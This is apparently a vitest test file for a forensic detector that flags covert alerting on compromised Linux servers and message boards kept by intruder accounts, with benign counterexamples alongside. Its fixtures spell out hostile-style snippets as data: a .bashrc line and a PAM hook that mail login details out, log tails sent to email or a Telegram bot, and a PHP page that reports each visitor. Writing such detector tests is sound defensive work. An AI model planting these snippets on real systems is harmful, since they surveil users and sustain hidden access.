import { describe, expect, it } from 'vitest';
import { watching } from '../../../src/detect/hiding/watching/watching.ts';
import { runDetector, type TestEvidence } from '../run-detector.ts';
import { cpuTime } from '../../../../../tools/cpu-time.ts';

const found = async (...all: TestEvidence[]): Promise<unknown[]> =>
  (await runDetector(watching, all)).map(({ rule, level, confidence, locators }) => [
    rule.id,
    level,
    confidence,
    ...locators.map(({ offset }) => offset),
  ]);
const typed = (...commands: string[]): TestEvidence => ({
  path: 'root/.bash_history',
  content: commands.map((line) => `${line}\n`).join(''),
});
const script = (content: string, path = 'usr/local/bin/w'): TestEvidence => ({ path, content });

describe('word sent of visits or logins', () => {
  it.each([
    'tail -F /var/log/apache2/access.log | grep --line-buffered panel | while read l; do echo "$l" | mail -s x a@b.example; done',
    'grep "Accepted" /var/log/auth.log | mail -s logins a@b.example',
    'last -n 20 | mailx -s who a@b.example',
    "echo 'echo $SSH_CLIENT | mail -s login a@b.example' >> /root/.bashrc",
    'tail -1 /var/log/nginx/access.log | xargs -I{} curl -d text={} https://api.telegram.org/bot1:a/sendMessage',
  ])('%s', async (command) => {
    expect(await found(typed(command))).toEqual([['alerts-on-visits', 'low', 'low', 0]]);
  });

  it('by cron', async () => {
    const content =
      '*/10 * * * * grep -c panel /var/log/apache2/access.log | mail -s n a@b.example\n';
    expect(await found({ path: 'var/spool/cron/crontabs/root', content })).toEqual([
      ['alerts-on-visits', 'low', 'low', 0],
    ]);
  });

  it('by a script that follows the log', async () => {
    const content =
      '#!/usr/bin/perl\nopen(LOG, "tail -F /var/log/httpd/access_log |");\nwhile (<LOG>) {\n  next unless /panel/;\n  open(M, "| /usr/sbin/sendmail -t");\n  print M "To: a\\@b.example\\n\\n$_";\n}\n';
    expect(await found(script(content))).toEqual([['alerts-on-visits', 'low', 'low', 16, 105]]);
  });

  it('by a page that mails who opened it', async () => {
    const content =
      '<?php\n$who = $_SERVER["REMOTE_ADDR"] . " " . $_SERVER["HTTP_USER_AGENT"];\nmail("a@b.example", "visit", $who);\nreadfile("x.html");\n';
    expect(await found(script(content, 'var/www/html/x.php'))).toEqual([
      ['alerts-on-visits', 'low', 'low', 6, 74],
    ]);
  });

  it('by a hook of PAM', async () => {
    const content =
      '#!/bin/sh\n[ "$PAM_TYPE" = open_session ] || exit 0\necho "$PAM_USER $PAM_RHOST" | mail -s login a@b.example\n';
    expect(await found(script(content))).toEqual([['alerts-on-visits', 'low', 'low', 51]]);
  });

  it.each([
    ['a report', typed('logwatch --output mail --mailto a@b.example')],
    ['another log', typed('tail /var/log/dpkg.log | mail -s upgrades a@b.example')],
    ['mail', typed('mail -s "about access" a@b.example < letter.txt')],
    ['faults', typed('grep " 500 " /var/log/apache2/access.log | mail -s errors a@b.example')],
    ['looking only', typed('tail -f /var/log/apache2/access.log')],
    [
      'a form',
      script(
        '<?php\n$ip = $_SERVER["REMOTE_ADDR"];\n$text = $_POST["text"];\nmail("a@b.example", "contact", "$text $ip");\n',
        'contact.php',
      ),
    ],
    [
      'a tool that reports',
      script(
        '#!/bin/sh\n# logcheck\nlogtail /var/log/auth.log > $T\nmail -s "logcheck" root < $T\n',
      ),
    ],
    [
      'an action of fail2ban',
      script('#!/bin/sh\ngrep "$1" /var/log/auth.log | mail -s "[Fail2Ban] banned $1" root\n'),
    ],
    [
      'two things far apart',
      script(`#!/bin/sh\nlast > /tmp/a\n${'date\n'.repeat(60)}mail -s x root < b\n`),
    ],
  ])('honest: %s', async (_what, evidence) => expect(await found(evidence)).toEqual([]));
});

describe('messages left for others', () => {
  const FILE = '/usr/local/share/m/board';
  const alice = {
    ...typed(`echo "new box is up, keys in the usual place" >> ${FILE}`),
    path: 'home/alice/.bash_history',
  };
  const bob = {
    ...typed(`tail -5 ${FILE}`, `echo "do not use the second one today" >> ${FILE}`),
    path: 'home/bob/.bash_history',
  };

  it('by one account for another', async () => {
    const [finding, ...more] = await runDetector(watching, [alice, bob]);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({
      rule: { id: 'operators-messages' },
      level: 'low',
      confidence: 'low',
      matched: {
        file: FILE,
        accounts: 'alice, bob',
        messages:
          'alice: new box is up, keys in the usual place; bob: do not use the second one today',
      },
    });
    expect(finding!.locators.map(({ evidence, offset }) => [evidence, offset])).toEqual([
      [alice.path, 0],
      [bob.path, 0],
      [bob.path, 33],
    ]);
  });

  it('by a script that keeps them', async () => {
    const content =
      '#!/usr/bin/perl\nmy $file = "/usr/local/share/messages/log";\nmy $me = getpwuid($<);\nprint "> "; my $text = <STDIN>;\nopen(F, ">>", $file); print F scalar(localtime), " $me: $text"; close F;\nsystem("tail -20 $file");\n';
    expect(await found(script(content))).toEqual([['operators-messages', 'low', 'low', 115]]);
  });

  it.each([
    ['one account', [bob, { ...alice, path: 'home/bob/.zsh_history' }]],
    [
      'other servers',
      [
        { ...alice, path: `a/${alice.path}` },
        { ...bob, path: `b/${bob.path}` },
      ],
    ],
    [
      'settings',
      [alice, bob].map((each) => ({
        ...each,
        content: String(each.content).replaceAll(FILE, '/etc/motd'),
      })),
    ],
    [
      'a script that logs what it does',
      [script('#!/bin/sh\nlog=/var/log/messages-sync\necho "$USER synced $1" >> $log\ncat $log\n')],
    ],
  ])('honest: %s', async (_what, all) => expect(await found(...all)).toEqual([]));
});

it('stays quick on commands made to keep it busy', async () => {
  const start = cpuTime();
  for (const piece of [
    'mail ',
    'tail /var/log/',
    'echo a ',
    'echo aaaa >',
    '>> ',
    'cat /a',
    'a b ',
    "'",
  ])
    await found(typed(`mail ${piece.repeat(60_000 / piece.length)}`));
  expect(cpuTime() - start).toBeLessThan(10_000);
});
